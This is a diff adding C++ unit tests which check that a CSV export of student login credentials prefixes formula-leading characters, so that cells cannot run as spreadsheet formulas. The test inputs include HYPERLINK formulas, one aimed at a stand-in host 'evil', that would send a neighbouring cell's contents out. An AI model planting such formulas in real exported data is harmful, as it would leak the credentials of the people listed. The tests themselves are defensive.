@@ -136,6 +136,30 @@ TEST(CsvCell, QuotesOnlyWhatNeedsIt) {
   EXPECT_EQ(csv_cell("cr\r"), "\"cr\r\"");
 }
 
+TEST(CsvCell, NeutralisesEveryFormulaLead) {
+  EXPECT_EQ(csv_cell("=1+1"), "'=1+1");
+  EXPECT_EQ(csv_cell("+33 6"), "'+33 6");
+  EXPECT_EQ(csv_cell("-2"), "'-2");
+  EXPECT_EQ(csv_cell("@SUM(A1)"), "'@SUM(A1)");
+  EXPECT_EQ(csv_cell("\tx"), "'\tx");
+  EXPECT_EQ(csv_cell("\rx"), "\"'\rx\"");
+  EXPECT_EQ(csv_cell("=HYPERLINK(\"http://x/?\"&E2;\"clic\")"),
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&E2;\"\"clic\"\")\"");
+  // Only at the start: inside a name they are ordinary characters.
+  EXPECT_EQ(csv_cell("Jean-Marc"), "Jean-Marc");
+  EXPECT_EQ(csv_cell("a=b"), "a=b");
+}
+
+TEST(CredentialsCsv, NoRosterValueReachesTheSheetAsAFormula) {
+  const Credentials credentials{
+      {{"=5A", "@Martin", "+Léa", "lea.martin1205", "abcdef23"},
+       {"-4B", "=HYPERLINK(\"http://evil/?\"&E2)", "Zoé", "zoe.x0101", "ghjkmn45"}}};
+  const auto csv = credentials_csv(credentials);
+  EXPECT_NE(csv.find("\r\n'=5A;'@Martin;'+Léa;lea.martin1205;abcdef23\r\n"), std::string::npos)
+      << csv;
+  EXPECT_NE(csv.find("\r\n'-4B;\"'=HYPERLINK("), std::string::npos) << csv;
+}
+
 TEST(CredentialsCsv, BomHeaderAndOneCrlfLinePerRow) {
   EXPECT_EQ(credentials_csv({}),
             "\xEF\xBB\xBF"
